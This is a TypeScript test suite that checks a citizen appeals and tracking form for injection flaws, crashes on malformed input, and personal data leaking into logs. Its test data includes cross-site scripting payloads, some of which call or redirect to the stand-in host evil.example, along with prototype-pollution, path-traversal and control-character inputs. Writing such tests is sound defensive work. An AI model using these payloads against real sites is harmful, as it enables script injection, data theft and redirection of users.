import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  attribute,
  fieldsOf,
  filled,
  open,
  type Page,
  postForm,
  written,
} from '../../testing/forms.fixture.js';
import {
  letter,
  post,
  startTestServer,
  type TestServer,
} from '../../testing/test-server.fixture.js';

const form = '/forms/linxiang/appeals';
const tracking = '/forms/linxiang/tracking';
let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

const scripts = ['alert(1)', 'top.location=1', 'fetch(`//evil.example`)', 'self.hit=1'];
const hostile = [
  ...new Set(
    scripts.flatMap((run) => [
      `<script>${run}</script>`,
      `</textarea><script>${run}</script>`,
      `"><script>${run}</script>`,
      `'><img src=x onerror=${run}>`,
      `" onfocus="${run}" autofocus="`,
      `<svg/onload=${run}>`,
      `</title><script>${run}</script>`,
      `<a href="javascript:${run}">x</a>`,
      `<iframe srcdoc="<script>${run}</script>"></iframe>`,
      `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
      `{{constructor.constructor('${run}')()}}`,
      `<style>@import'//evil.example';</style>`,
      `<!--<img src="--><img src=x onerror=${run}//">`,
      `<form action="//evil.example"><button>`,
      `<base href="//evil.example/">`,
      `<meta http-equiv="refresh" content="0;//evil.example">`,
      `&lt;script&gt;${run}&lt;/script&gt;`,
    ]),
  ),
];

/** A text of the same length that no browser could take for anything else. */
const harmless = (text: string): string => text.replace(/[^a-z]/gi, '字');

/** What a page is made of: names of elements, attributes, and every address. */
const skeleton = (page: Page): string[] =>
  page.elements.map((element) => {
    const names = element.attrs.map(({ name }) => name).sort();
    const addresses = ['href', 'src', 'action', 'formaction'].map((name) =>
      attribute(element, name),
    );
    return `${element.tagName} ${names} ${addresses.filter(Boolean)}`;
  });

test('there are 50 hostile texts', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(50);
});

describe('whatever a citizen writes stays text', () => {
  const texts = [
    'title',
    'body',
    'address',
    'expectedOutcome',
    'relatedNumber',
    'name',
    'phone',
    'email',
  ];
  const choices = ['kind', 'mailbox', 'categoryId', 'publication', 'occurredOn'];
  const everywhere = (text: string): Record<string, string> =>
    Object.fromEntries([...texts, ...choices].map((name) => [name, text]));

  test('in every field of the form with its mistakes', async () => {
    const fields = fieldsOf(await open(server, form));
    const show = (text: string) =>
      postForm(server, form, filled(fields, { ...everywhere(text), step: 'check' }));
    for (const text of hostile) {
      expect(skeleton(await show(text)), text).toEqual(skeleton(await show(harmless(text))));
    }
  });

  test('on the last look and in what it carries on', async () => {
    const fields = fieldsOf(await open(server, form));
    const show = (text: string) => {
      const said = { ...written, body: `${written.body}${text}`, expectedOutcome: text };
      return postForm(
        server,
        form,
        filled(fields, { ...said, address: text.slice(0, 90), step: 'check' }),
      );
    };
    for (const text of hostile) {
      expect(skeleton(await show(text)), text).toEqual(skeleton(await show(harmless(text))));
    }
  });

  test('where letters are looked up and where they are followed', async () => {
    const lookUp = (number: string, queryCode: string) =>
      postForm(server, tracking, Object.entries({ number, queryCode }));
    const plain = skeleton(await lookUp('x', 'x'));
    for (const text of hostile) expect(skeleton(await lookUp(text, text)), text).toEqual(plain);

    const follow = async (text: string) => {
      const sent = await post<{ number: string; queryCode: string }>(
        server,
        '/v1/sites/linxiang/appeals',
        letter({ title: text.slice(0, 39).trim().padEnd(4, '…'), body: `${written.body}${text}` }),
      );
      return await lookUp(sent.body.number, sent.body.queryCode);
    };
    const shown = skeleton(await follow('x'));
    for (const text of hostile) expect(skeleton(await follow(text)), text).toEqual(shown);
  });
});

describe('junk is answered with a page, and never breaks anything', () => {
  const junk: [string, string][] = [
    ['nothing', ''],
    ['only signs', '&&&===&'],
    ['a field that no form has', 'title=x&isAdmin=1'],
    ['a field twice', 'title=x&title=y'],
    ['the prototype', '__proto__=1&constructor=2&toString=3'],
    ['a question of the prototype', 'question-constructor=1&question-__proto__=2&categoryId=lifts'],
    ['broken escapes', 'title=%&body=%zz&kind=%u4e00'],
    ['NUL and control characters', 'title=%00%01%02%1b&body=%00&kind=complaint'],
    ['direction marks', `title=${encodeURIComponent('\u202e\u2066 abcd \ufeff')}`],
    ['a thousand fields', Array.from({ length: 1000 }, (_, at) => `f${at}=1`).join('&')],
    ['a thousand answers', Array.from({ length: 1000 }, () => 'question-parts=door').join('&')],
    ['a very long text', `body=${'长'.repeat(30_000)}`],
    ['a very long title', `title=${'x'.repeat(100_000)}`],
    ['a key of the wrong kind', `key=${'%F0%9F%98%80'.repeat(50)}&step=send`],
    ['a token of the wrong kind', 'token=..&action=evaluate&grade=9e9'],
    ['a step nobody knows', 'step=delete'],
    ['a place nobody knows', 'division=../../etc&mailbox=constructor&column=__proto__'],
    ['a day that is none', 'occurredOn=2026-02-30&kind=complaint'],
  ];

  test.each(junk)('%s', async (_, body) => {
    for (const path of [form, tracking, '/forms/hunan/appeals']) {
      const page = await postForm(server, path, body, {
        'Content-Type': 'application/x-www-form-urlencoded',
      });
      expect(page.status, path).toBeLessThan(500);
      expect(page.text).not.toMatch(/SQLITE|Error:|node:|\/src\//);
    }
  });

  test('a body beyond the limit is refused with a page', async () => {
    const page = await postForm(server, form, `body=${'x'.repeat(600_000)}`, {
      'Content-Type': 'application/x-www-form-urlencoded',
    });
    expect([page.status, page.text.includes('内容过长')]).toEqual([413, true]);
  });

  test('a site that does not exist is a page that says so', async () => {
    for (const path of [
      '/forms/nowhere/appeals',
      '/forms/__proto__/tracking',
      '/forms/%00/appeals',
    ]) {
      const page = await open(server, path);
      expect([page.status, page.text.includes('没有找到这个页面')], path).toEqual([404, true]);
    }
  });
});

test('neither text, contact, number nor code gets into the log', async () => {
  const sent = await post<{ number: string; queryCode: string }>(
    server,
    '/v1/sites/linxiang/appeals',
    letter(),
  );
  const { number, queryCode } = sent.body;
  await postForm(server, tracking, Object.entries({ number, queryCode }));
  await postForm(server, form, Object.entries({ ...written, phone: '13787654321' }));
  const log = server.logged();
  for (const secret of [number, queryCode, written.title, '13787654321']) {
    expect(log).not.toContain(secret);
  }
  expect(log).toContain('/forms/:site/appeals');
});
